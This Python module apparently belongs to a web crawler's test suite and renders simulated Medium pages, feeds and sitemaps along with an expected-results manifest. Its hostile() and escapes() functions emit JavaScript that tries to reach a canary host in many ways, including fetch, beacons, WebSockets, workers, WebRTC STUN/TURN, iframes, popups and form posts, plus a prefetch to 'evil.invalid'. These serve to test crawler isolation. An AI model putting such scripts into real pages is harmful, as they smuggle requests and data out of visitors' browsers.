"""HTML, RSS and sitemap XML for the simulated Medium, modeled on the real pages
in tests/medium/pages: graf markup (2016, 2018), React markup (2020), pw-post
markup (2022) and the 2025 layout with post-preview cards."""

from __future__ import annotations

import json
from datetime import timedelta
from html import escape
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from harvest.sim.model import Post, SimLink, World

MEDIUM = "https://medium.com"
BATCH = 5  # posts per batch on a tag page; later batches load on scroll


def _a(link: SimLink, cls: str = "") -> str:
    rel = f' rel="{escape(link.rel)}"' if link.rel is not None else ""
    klass = f' class="{cls}"' if cls else ""
    return f'<a href="{escape(link.href)}"{klass}{rel} target="_blank">{escape(link.text)}</a>'


def _css(n: int) -> str:
    return "".join(
        f".c{i:x}{{margin:{i % 37}px;padding:{i % 13}px;line-height:{i % 7 + 1}}}\n"
        for i in range(n)
    )


_CSS = _css(12_000)  # ~500 KB of rules, sliced to each page's size


def _padding(post: Post, have: int) -> str:
    """Inline CSS like Medium's own pages carry, up to the post's page size."""
    need = max(0, post.size - have)
    return "<style>" + _CSS[:need] + "</style>"


def _json_ld(post: Post) -> str:
    pub = post.publication
    publisher = (
        {
            "@type": "Organization",
            "name": pub.name,
            "url": f"https://{pub.domain}" if pub.domain else f"{MEDIUM}/{pub.slug}",
        }
        if pub
        else {"@type": "Organization", "name": "Medium", "url": f"{MEDIUM}/"}
    )
    data: dict[str, Any] = {
        "@context": "http://schema.org",
        "@type": "NewsArticle",
        "url": post.url,
        "datePublished": post.published.isoformat().replace("+00:00", "Z"),
        "headline": post.title,
        "identifier": post.post_id,
        "keywords": [f"Tag:{t.replace('-', ' ').title()}" for t in post.tags],
        "author": {
            "@type": "Person",
            "name": post.author.name,
            "url": f"{MEDIUM}/@{post.author.username}",
        },
        "publisher": publisher,
    }
    if post.access == "member_only":
        data["isAccessibleForFree"] = False
        data["hasPart"] = {
            "@type": "WebPageElement",
            "isAccessibleForFree": False,
            "cssSelector": ".meteredContent",
        }
    return f'<script type="application/ld+json">{json.dumps(data)}</script>'


def _head(post: Post, og_title: str) -> str:
    republished = (post.published + timedelta(days=400)).isoformat()
    canonical = post.canonical_elsewhere or post.served_url
    robots = "noindex,nofollow" if post.author.noindex else "index,follow,max-image-preview:large"
    return (
        f'<head><meta charset="utf-8"><title>{escape(post.title)} | Medium</title>'
        f'<link rel="canonical" href="{canonical}">'
        f'<meta property="og:url" content="{post.served_url}">'
        f'<meta name="robots" content="{robots}">'
        f'<meta property="og:title" content="{escape(og_title)}">'
        f'<meta property="og:type" content="article">'
        f'<meta name="author" content="{escape(post.author.name)}">'
        f'<meta property="article:author" content="{MEDIUM}/@{post.author.username}">'
        # follows the latest republish: harvest must not take it for the first publish date
        f'<meta property="article:published_time" content="{republished}">'
        f'<meta property="al:android:url" content="medium://p/{post.post_id}">'
        f"{_json_ld(post)}</head>"
    )


def _chrome_top(post: Post, rel: str) -> str:
    pub_nav = ""
    if post.publication and post.publication.domain:
        pub_nav = (
            f'<a href="https://{post.publication.domain}/archive?source=post_page">Archive</a>'
            f'<a href="https://shop.partner-of-{post.publication.slug}.example/">Shop</a>'
        )
    return (
        f'<nav><a href="{MEDIUM}/?source=post_page" rel="{rel}">Medium</a>'
        f'<a href="{MEDIUM}/m/signin?operation=login&amp;redirect={MEDIUM}%2Fp%2F{post.post_id}" '
        f'rel="{rel}">Sign in</a>'
        f'<a href="https://rsci.app.link/?%24canonical_url={MEDIUM}%2Fp%2F{post.post_id}" '
        f'rel="{rel}">Open in app</a>{pub_nav}</nav>'
    )


def _chrome_bottom(rel: str) -> str:
    return (
        f'<footer><a href="https://help.medium.com/hc/en-us" rel="{rel}">Help</a>'
        f'<a href="https://status.medium.com/" rel="{rel}">Status</a>'
        f'<a href="https://itunes.apple.com/app/medium-everyones-stories/id828256236" rel="{rel}">'
        f'<img alt="App Store" src="/badge.png"></a>'
        f'<a href="https://play.google.com/store/apps/details?id=com.medium.reader" rel="{rel}">'
        f'<img alt="Google Play" src="/badge2.png"></a>'
        f'<a href="https://speechify.com/medium" rel="{rel}">Text to speech</a></footer>'
    )


def _internal_and_skipped(post: Post) -> str:
    # internal links and non-web hrefs: counted, never recorded
    return (
        f'Read more on <a href="{MEDIUM}/tag/{post.tags[0]}">{post.tags[0]}</a>, mail '
        f'<a href="mailto:{post.author.username}@example.com">the author</a> or '
        f'<a href="#top">go up</a>.'
    )


def _body_graf(post: Post, variant: int) -> str:
    out = [f'<h1 class="graf graf--h3 graf--title">{escape(post.title)}</h1>']
    pid = 0
    for link in _served_links(post, variant):
        if link.location != "body":
            continue
        pid += 1
        out.append(_graf_block(link, pid))
    out.append(f'<p class="graf graf--p">{_internal_and_skipped(post)}</p>')
    return (
        '<div class="postArticle-content js-postField"><section class="section section--body">'
        '<div class="section-content"><div class="section-inner sectionLayout--insetColumn">'
        + "".join(out)
        + "</div></div></section></div>"
    )


def _graf_block(link: SimLink, pid: int) -> str:
    """One body block of the 2015-2019 markup carrying ``link``."""
    a = _a(link, "markup--anchor markup--p-anchor")
    if link.block == "paragraph":
        return f'<p name="p{pid}" class="graf graf--p">Some words, then {a}, and more.</p>'
    elif link.block == "list":
        return f'<ul class="postList"><li class="graf graf--li">Item: {a}</li></ul>'
    elif link.block == "quote":
        return f'<blockquote class="graf graf--blockquote">Quoted {a}</blockquote>'
    elif link.block == "heading":
        return f'<h3 class="graf graf--h3">About {a}</h3>'
    elif link.block == "caption":
        return (
            f'<figure class="graf graf--figure"><img class="graf-image" src="/i{pid}.jpg">'
            f'<figcaption class="imageCaption">Photo: {a}</figcaption></figure>'
        )
    elif link.block == "figure":
        rel = f' rel="{link.rel}"' if link.rel else ""
        return (
            f'<figure class="graf graf--figure"><a href="{escape(link.href)}"{rel}>'
            f'<img class="graf-image" alt="{escape(link.text)}" src="/i{pid}.png"></a></figure>'
        )
    elif link.block == "link_card":
        if link.text:
            rel = f' rel="{link.rel}"' if link.rel else ""
            return (
                f'<div class="graf graf--mixtapeEmbed"><a href="{escape(link.href)}" '
                f'class="markup--anchor markup--mixtapeEmbed-anchor"{rel}>'
                f'<strong class="markup--strong">{escape(link.text)}</strong></a>'
            )
        else:
            return f'<a href="{escape(link.href)}" class="js-mixtapeImage mixtapeImage"></a></div>'
    return ""


def _served_links(post: Post, variant: int) -> list[SimLink]:
    """The links the page carries: a member-only preview stops at its cut."""
    links = post.links_in(variant)
    if post.access != "member_only":
        return links
    cut = post.preview_cut(variant)
    body = [link for link in links if link.location == "body"][:cut]
    return body + [link for link in links if link.location != "body"]


def _locked_state(post: Post, variant: int) -> str:
    """Apollo state of a locked post as Medium serves it to a logged-out reader."""
    words = 40 * len([link for link in post.links_in(variant) if link.location == "body"])
    state = {
        "ROOT_QUERY": {f'postResult({{"id":"{post.post_id}"}})': {"__ref": f"Post:{post.post_id}"}},
        f"Post:{post.post_id}": {
            "__typename": "Post",
            "id": post.post_id,
            "isLocked": True,
            "visibility": "LOCKED",
            "lockedSource": "LOCKED_POST_SOURCE_ELEVATE",
            "wordCount": words,
            'content({"postMeteringOptions":{}})': {
                "__typename": "PostContent",
                "isLockedPreviewOnly": True,
            },
        },
    }
    return f"<script>window.__APOLLO_STATE__ = {json.dumps(state)}</script>"


MEMBER_BADGE = (
    '<div><button aria-label="Member-only story"><span>Member-only story</span></button></div>'
)


def _body_react(post: Post, variant: int, pclass: str) -> str:
    out = [
        f'<h1 id="t0">{escape(post.title)}</h1>',
        f'<div><div><a href="/@{post.author.username}?source=post_page">'
        f"{escape(post.author.name)}</a>"
        f"<span>{post.published:%b %d, %Y}</span></div></div>",
    ]
    if post.access == "member_only":
        out.append(MEMBER_BADGE)
    pid = 0
    cls = f' class="{pclass}"' if pclass else ""
    for link in _served_links(post, variant):
        if link.location != "body":
            continue
        pid += 1
        out.append(_react_block(link, pid, cls))
    out.append(f'<p id="ffff"{cls}>{_internal_and_skipped(post)}</p>')
    return (
        "<article><div><section><div><div>"
        + "".join(out)
        + "</div></div></section></div></article>"
    )


def _react_block(link: SimLink, pid: int, cls: str) -> str:
    """One body block of the 2020-2026 markup carrying ``link``."""
    a = _a(link, "au mi")
    ident = f"{pid:04x}"
    if link.block == "paragraph":
        return f'<p id="{ident}"{cls}>Some words, then {a}, and more.</p>'
    elif link.block == "list":
        return f'<ul><li id="{ident}"{cls}>Item: {a}</li></ul>'
    elif link.block == "quote":
        return f'<blockquote><p id="{ident}">Quoted {a}</p></blockquote>'
    elif link.block == "heading":
        return f'<h2 id="{ident}">About {a}</h2>'
    elif link.block == "caption":
        return (
            f'<figure><div><img src="/i{pid}.jpg"></div>'
            f"<figcaption>Photo: {a}</figcaption></figure>"
        )
    elif link.block == "figure":
        rel = f' rel="{link.rel}"' if link.rel else ""
        return (
            f'<figure id="{ident}"><div><a href="{escape(link.href)}"{rel}>'
            f'<img alt="{escape(link.text)}" src="/i{pid}.png"></a></div></figure>'
        )
    elif link.block == "link_card":
        rel = f' rel="{link.rel}"' if link.rel else ""
        return (
            f'<div><a href="{escape(link.href)}"{rel} target="_blank">'
            f"<div><h2>{escape(link.text)}</h2>"
            f"<div><h3>A card about it</h3></div>"
            f"<div><p>{escape(link.href.split('/')[2])}</p></div>"
            f"</div></a></div>"
        )
    return ""


def _tags_list(post: Post) -> str:
    return (
        "<ul>"
        + "".join(
            f'<li><a href="{MEDIUM}/tag/{t}?source=post_page">{t}</a></li>' for t in post.tags
        )
        + "</ul>"
    )


def _bio_links(post: Post) -> str:
    """The author card's links as this post's page shows them (its era's rel)."""
    return " ".join(_a(link) for link in post.links if link.location == "author_bio")


def _bio_graf(post: Post) -> str:
    author = post.author
    links = _bio_links(post)
    return (
        '<div class="js-postFooterInfo"><li class="uiScale"><div><span data-user-id="u1">'
        "<button>Follow</button></span></div>"
        f'<h3><a href="{MEDIUM}/@{author.username}" rel="author">{escape(author.name)}</a></h3>'
        f'<p class="ui-body">Writes things. {links}</p></li></div>'
    )


def _bio_react(post: Post) -> str:
    author = post.author
    links = _bio_links(post)
    return (
        f'<div><div><a href="/@{author.username}?source=post_author_info"><h2>Written by '
        f"{escape(author.name)}</h2></a><div><span>1.2K followers</span></div>"
        f"<div><p><span>Writes things. {links}</span></p></div></div></div>"
    )


def _recirc(world: World, post: Post, cards: bool) -> str:
    others = [p for p in world.posts if p.post_id != post.post_id][:3]
    if cards:
        return "".join(preview_card(p, "read_next_recirc") for p in others)
    return "".join(
        f'<div><a href="{p.url}?source=post_internal_links" rel="noopener">'
        f"<h2>{escape(p.title)}</h2></a></div>"
        for p in others
    )


GONE_PAGE = (
    "<!DOCTYPE html><html><head><title>Medium</title></head><body><main><h1>410</h1>"
    "<p>This post is unavailable: the account is under investigation or was found in"
    " violation of the Medium Rules.</p></main></body></html>"
)
NOT_FOUND_PAGE = (
    "<!DOCTYPE html><html><head><title>Medium</title></head><body><main><h1>404</h1>"
    "<p>Out of nothing, something. You can find (just about) anything on Medium"
    " — apparently even a page that doesn’t exist.</p></main></body></html>"
)


def article_page(world: World, post: Post, variant: int = 0) -> str:
    era = post.era
    if era.startswith("graf"):
        og = f"{post.title} – {post.publication.name if post.publication else post.author.name}"
        body = (
            _chrome_top(post, "nofollow")
            + f'<main><article class="postArticle postArticle--full">{_body_graf(post, variant)}'
            + f'<footer><ul class="tags">{_tags_list(post)[4:-5]}</ul>'
            + f"{_bio_graf(post)}</footer>"
            + "</article></main>"
            + _recirc(world, post, cards=False)
            + _chrome_bottom("noopener nofollow")
        )
    else:
        chrome_rel = "noopener" if era == "react2020" else "noopener follow"
        pclass = "pw-post-body-paragraph" if era.startswith("pw") else ""
        extra = (
            '<div><a rel="me" href="https://me.dm/@someone">Mastodon</a></div>'
            if era == "pw2025"
            else ""
        )
        body = (
            f'<div id="root">{_chrome_top(post, chrome_rel)}{extra}'
            + _body_react(post, variant, pclass)
            + _tags_list(post)
            + _bio_react(post)
            + _recirc(world, post, cards=era == "pw2025")
            + _chrome_bottom(chrome_rel)
            + "</div>"
        )
        og = post.title
    head = _head(post, og)
    state = _locked_state(post, variant) if post.access == "member_only" else ""
    page = f'<!DOCTYPE html><html lang="en">{head}<body>{body}{state}{BEACON}'
    return page + _padding(post, len(page)) + "</body></html>"


# Cloudflare's analytics beacon, on every real Medium page: the word "cloudflare"
# in a page says nothing about a challenge.
BEACON = (
    '<script defer src="https://static.cloudflareinsights.com/beacon.min.js" '
    'data-cf-beacon=\'{"token": "0a1b2c"}\'></script>'
)


def challenge_page(ray: str) -> str:
    """Cloudflare's managed challenge, as real clients report it (2025-2026)."""
    return (
        '<!DOCTYPE html><html lang="en-US"><head><title>Just a moment...</title>'
        '<meta http-equiv="refresh" content="390"><meta name="robots" content="noindex,nofollow">'
        '</head><body><div class="main-wrapper" role="main"><h1>medium.com</h1>'
        "<p>Verifying you are human. This may take a few seconds.</p>"
        '<div class="cf-turnstile" data-sitekey="0x4AAAAAAA"></div></div>'
        f"<script>(function(){{window._cf_chl_opt={{cvId: '3',cZone: 'medium.com',"
        f"cType: 'managed',cRay: '{ray}'}};"
        "var a=document.createElement('script');"
        "a.src='/cdn-cgi/challenge-platform/h/g/orchestrate/chl_page/v1?ray="
        f"{ray}';document.getElementsByTagName('head')[0].appendChild(a);}}());</script>"
        "</body></html>"
    )


def preview_card(post: Post, source: str, n: int = 0) -> str:
    href = f"/{post.path}" if post.host == "medium.com" else post.url
    pub = ""
    if post.publication:
        home = (
            f"https://{post.publication.domain}/"
            if post.publication.domain
            else f"{MEDIUM}/{post.publication.slug}"
        )
        pub = f' in <a href="{home}?source={source}">{escape(post.publication.name)}</a>'
    return (
        '<article data-testid="post-preview" style="display:block;min-height:480px">'
        f'<div role="link" data-href="{post.url}"><div>'
        f'<a href="{MEDIUM}/@{post.author.username}?source={source}">'
        f"{escape(post.author.name)}</a>{pub}</div>"
        f'<a rel="noopener follow" href="{href}?source={source}---------{n}-----">'
        f"<h2>{escape(post.title)}</h2></a></div></article>"
    )


def _listing(title: str, canonical: str, cards: str, script: str = "", bio: str = "") -> str:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{escape(title)}</title>'
        f'<link rel="canonical" href="{canonical}"></head><body><div id="root">'
        f'<nav><a href="{MEDIUM}/" rel="noopener follow">Medium</a>'
        '<a href="https://play.google.com/store/apps/details?id=com.medium.reader" '
        'rel="noopener follow">App</a></nav>'
        f'{bio}<main><div id="feed">{cards}</div></main>{script}</div></body></html>'
    )


def hostile(canary: str) -> str:
    """What a hostile page does to a crawler's browser: requests to another host
    (or another port of the same address: a local scrapyd, say) in every way a
    page can make them, and cards naming post-like URLs on that host."""
    trap = f"{canary}/trap-aaaaaaaaaaaa"
    cards = (
        '<article data-testid="post-preview"><div role="link" '
        f'data-href="{trap}"><a href="{trap}?source=tag---9">A trap</a></div></article>'
        f'<div class="bio">My post: <a href="{canary}/mine-bbbbbbbbbbbb">here</a></div>'
    )
    script = (
        "<script>(function(){var c=" + json.dumps(canary) + ";"
        "function q(f){try{f()}catch(e){}}"
        "q(function(){fetch(c+'/fetch',{mode:'no-cors'}).catch(function(){})});"
        "q(function(){fetch(c+'/anything/robots.txt',{mode:'no-cors'}).catch(function(){})});"
        "q(function(){fetch(c+'/addversion.json',{method:'POST',mode:'no-cors',"
        "body:'egg'}).catch(function(){})});"
        "q(function(){var x=new XMLHttpRequest();x.open('GET',c+'/xhr');x.send()});"
        "q(function(){navigator.sendBeacon(c+'/beacon','x')});"
        "q(function(){new WebSocket(c.replace('http','ws')+'/ws')});"
        "q(function(){new EventSource(c+'/events')});"
        "q(function(){var f=document.createElement('iframe');f.src=c+'/iframe';"
        "document.body.appendChild(f)});"
        "q(function(){var s=document.createElement('script');s.src=c+'/script.js';"
        "document.head.appendChild(s)});"
        "q(function(){var l=document.createElement('link');l.rel='prefetch';"
        "l.href=c+'/prefetch';document.head.appendChild(l)});"
        "q(function(){window.open(c+'/popup')});"
        "q(function(){var f=document.createElement('form');f.method='POST';"
        "f.action=c+'/form';document.body.appendChild(f);f.submit()});"
        "})();</script>"
    )
    return cards + script


# A hostile listing's ways out of the browser, one listing each (see escapes()).
# "in_page" keeps the page where it is; the others navigate the tab away.
ESCAPE_CHANNELS = ("in_page", "form", "meta_refresh", "location", "rewrite")
# Same-origin paths of the hostile mirror that redirect to a canary: the first
# hop is the mirror's, only the redirect leaves it.
ESCAPE_REDIRECTS = ("fetch", "iframe", "script", "post", "worker", "popup", "location")


def escapes(
    canary: str, other: str, udp_port: int, turn_port: int
) -> tuple[dict[str, str], dict[str, tuple[str, str]]]:
    """What a hostile listing does to get out of the crawler's browser.

    ``canary`` and ``other`` are hosts the browser must never reach (another
    port of the mirror's address, another loopback address), ``udp_port`` a
    STUN listener and ``turn_port`` a TURN-over-TCP one. Returns the markup of
    each channel (:data:`ESCAPE_CHANNELS`) and the scripts the mirror serves
    for them (path -> (type, body)); the mirror's :data:`ESCAPE_REDIRECTS`
    paths (``/_sim/escape/<name>``) are to redirect to ``canary``.
    """
    c, d = json.dumps(canary), json.dumps(other)
    grab = f"var c={c},d={d};function q(f){{try{{f()}}catch(e){{}}}}"
    fetches = (
        "q(function(){fetch(c+'/from-worker',{mode:'no-cors'}).catch(function(){})});"
        "q(function(){fetch(d+'/from-worker',{mode:'no-cors'}).catch(function(){})});"
        "q(function(){fetch('/_sim/escape/fetch').catch(function(){})});"
    )
    worker = grab + fetches
    blob = json.dumps(worker)
    ice = json.dumps(
        {
            "iceServers": [
                {"urls": f"stun:127.0.0.1:{udp_port}"},
                {"urls": f"stun:127.0.0.2:{udp_port}"},
                {
                    "urls": f"turn:127.0.0.1:{turn_port}?transport=tcp",
                    "username": "u",
                    "credential": "p",
                },
                {
                    "urls": f"turn:127.0.0.1:{udp_port}?transport=udp",
                    "username": "u",
                    "credential": "p",
                },
            ]
        }
    )
    in_page = (
        f'<link rel="preconnect" href={c}><link rel="preconnect" '
        f'href="{other.replace("http:", "https:")}"><link rel="dns-prefetch" href="//evil.invalid">'
        f"<script>(function(){{{grab}"
        "q(function(){fetch('/_sim/escape/fetch',{mode:'no-cors'}).catch(function(){})});"
        "q(function(){fetch('/_sim/escape/post',{method:'POST',mode:'no-cors',"
        "body:'egg'}).catch(function(){})});"
        "q(function(){var f=document.createElement('iframe');f.src='/_sim/escape/iframe';"
        "document.body.appendChild(f)});"
        "q(function(){var s=document.createElement('script');s.src='/_sim/escape/script';"
        "document.head.appendChild(s)});"
        "q(function(){new Worker('/_sim/escape/worker.js')});"
        "q(function(){new Worker(URL.createObjectURL(new Blob([" + blob + "],"
        "{type:'text/javascript'})))});"
        "q(function(){new SharedWorker(URL.createObjectURL(new Blob([" + blob + "],"
        "{type:'text/javascript'})))});"
        "q(function(){navigator.serviceWorker.register('/_sim/escape/sw.js')"
        ".catch(function(){})});"
        "q(function(){var pc=new RTCPeerConnection(" + ice + ");pc.createDataChannel('x');"
        "pc.createOffer().then(function(o){return pc.setLocalDescription(o)})"
        ".catch(function(){})});"
        "q(function(){window.open('/_sim/escape/popup')});"
        "q(function(){window.open(d+'/popup')});"
        "})();</script>"
    )
    markup = {
        "in_page": in_page,
        "form": (
            f"<script>(function(){{{grab}var f=document.createElement('form');"
            "f.method='POST';f.action=c+'/form';var i=document.createElement('input');"
            "i.name='egg';i.value='x';f.appendChild(i);document.body.appendChild(f);"
            "f.submit()})();</script>"
        ),
        "meta_refresh": f'<meta http-equiv="refresh" content="0;url={escape(other)}/refresh">',
        "location": "<script>location.href='/_sim/escape/location'</script>",
        # No navigation at all: the document is replaced by one with no listing.
        "rewrite": (
            "<script>setTimeout(function(){document.open();"
            "document.write('<p>nothing here</p>');document.close()},0)</script>"
        ),
    }
    files = {
        "/_sim/escape/worker.js": ("text/javascript", worker),
        "/_sim/escape/sw.js": ("text/javascript", worker),
    }
    return markup, files


def tag_page(world: World, tag: str, canary: str | None = None, extra: str = "") -> str:
    posts = world.tagged(tag)
    cards = "".join(preview_card(p, "tag_recommended_feed", i) for i, p in enumerate(posts[:BATCH]))
    if canary is not None:
        cards += hostile(canary)
    cards += extra
    # Later batches arrive by script as the reader scrolls, as on Medium.
    script = (
        "<script>(function(){var page=1,busy=false,done=false;"
        "function more(){if(busy||done)return;"
        "if(window.innerHeight+window.scrollY<document.body.scrollHeight-300)return;"
        f"busy=true;fetch('/_sim/tag/{tag}/batch/'+page).then(function(r){{return r.text()}})"
        ".then(function(h){if(!h.trim()){done=true}else{"
        "document.getElementById('feed').insertAdjacentHTML('beforeend',h);page++}busy=false})}"
        "window.addEventListener('scroll',more);})();</script>"
    )
    return _listing(f"{tag} – Medium", f"{MEDIUM}/tag/{tag}", cards, script)


def tag_batch(world: World, tag: str, page: int) -> str:
    posts = world.tagged(tag)[page * BATCH : (page + 1) * BATCH]
    return "".join(
        preview_card(p, "tag_recommended_feed", page * BATCH + i) for i, p in enumerate(posts)
    )


def profile_page(world: World, username: str) -> str | None:
    author = next((a for a in world.authors if a.username == username), None)
    if author is None:
        return None
    links = " ".join(_a(link) for link in author.bio_links)
    bio = (
        f'<header class="hero hero--profile"><h1>{escape(author.name)}</h1>'
        f'<p class="ui-body hero-description">Writes things. {links}</p></header>'
    )
    stream = "".join(
        '<div class="streamItem streamItem--postPreview">'
        '<div class="postArticle postArticle--short" '
        f'data-post-id="{p.post_id}"><a href="{p.url}?source=user_profile---------{i}----">'
        f"<h3>{escape(p.title)}</h3></a></div></div>"
        for i, p in enumerate(world.by_author(username))
    )
    return _listing(author.name, f"{MEDIUM}/@{username}", stream, bio=bio)


def publication_page(world: World, slug: str) -> str | None:
    pub = next((p for p in world.publications if p.slug == slug), None)
    if pub is None:
        return None
    cards = "".join(
        preview_card(p, "collection_home", i) for i, p in enumerate(world.in_publication(slug))
    )
    canonical = f"https://{pub.domain}/" if pub.domain else f"{MEDIUM}/{slug}"
    return _listing(pub.name, canonical, cards)


def rss(world: World, title: str, link: str, posts: list[Post]) -> str:
    items = []
    for p in posts[:10]:
        body = "".join(
            f'<p><a href="{escape(link.href)}">{escape(link.text)}</a></p>'
            for link in p.links
            if link.location == "body"
        )
        cats = "".join(f"<category><![CDATA[{t}]]></category>" for t in p.tags)
        items.append(
            f"<item><title><![CDATA[{p.title}]]></title><link>{p.url}?source=rss----1</link>"
            f'<guid isPermaLink="false">{MEDIUM}/p/{p.post_id}</guid>{cats}'
            f"<dc:creator><![CDATA[{p.author.name}]]></dc:creator>"
            f"<pubDate>{p.published:%a, %d %b %Y %H:%M:%S GMT}</pubDate>"
            f"<content:encoded><![CDATA[{body}]]></content:encoded></item>"
        )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" version="2.0"><channel>'
        f"<title><![CDATA[{title}]]></title><link>{xml_escape(link)}</link>{''.join(items)}</channel></rss>"
    )


def sitemap_index(world: World, *, gz: bool = False) -> str:
    days = sorted({p.published.date() for p in world.posts})
    ext = ".xml.gz" if gz else ".xml"
    entries = "".join(
        f"<sitemap><loc>{MEDIUM}/sitemap/posts/{d.year}/posts-{d.isoformat()}{ext}</loc></sitemap>"
        for d in days
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</sitemapindex>'
    )


def sitemap_day(world: World, day: str) -> str:
    urls = "".join(
        f"<url><loc>{p.url}</loc><changefreq>monthly</changefreq></url>"
        for p in world.posts
        if p.published.date().isoformat() == day
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'


def _post_truth(p: Post, variant: int) -> dict[str, object]:
    """What a crawl must find of one post: its facts and every link, as stored."""
    return {
        "url": p.url,
        "author": p.author.username,
        "publication": p.publication.slug if p.publication else None,
        "publication_domain": p.publication.domain if p.publication else None,
        "tags": p.tags,
        "published_at": p.published.isoformat().replace("+00:00", "Z"),
        "era": p.era,
        "access": p.access,
        "fate": p.fate,
        "served_url": p.served_url,
        "canonical_elsewhere": p.canonical_elsewhere,
        "noindex": p.author.noindex,
        "preview_links": p.preview_cut(variant) if p.access == "member_only" else None,
        "links": [
            {
                "target_url": link.expected_url,
                "location": link.location,
                "kind": link.kind,
                "rel": link.rel_tokens,
                "nofollow": "nofollow" in link.rel_tokens,
                "ugc": "ugc" in link.rel_tokens,
                "sponsored": "sponsored" in link.rel_tokens,
            }
            for link in p.links_in(variant)
        ],
    }


def manifest(world: World, variant: int = 0) -> dict[str, object]:
    posts = {p.post_id: _post_truth(p, variant) for p in world.posts}
    return {
        "seed": world.seed,
        "size": len(world.posts),
        "variant": variant,
        "posts": posts,
        "tags": {t: [p.post_id for p in world.tagged(t)] for t in world.tags},
        "authors": {
            a.username: {
                "name": a.name,
                "bio_links": [link.expected_url for link in a.bio_links],
                "posts": [p.post_id for p in world.by_author(a.username)],
            }
            for a in world.authors
        },
        "publications": {
            pub.slug: [p.post_id for p in world.in_publication(pub.slug)]
            for pub in world.publications
        },
    }
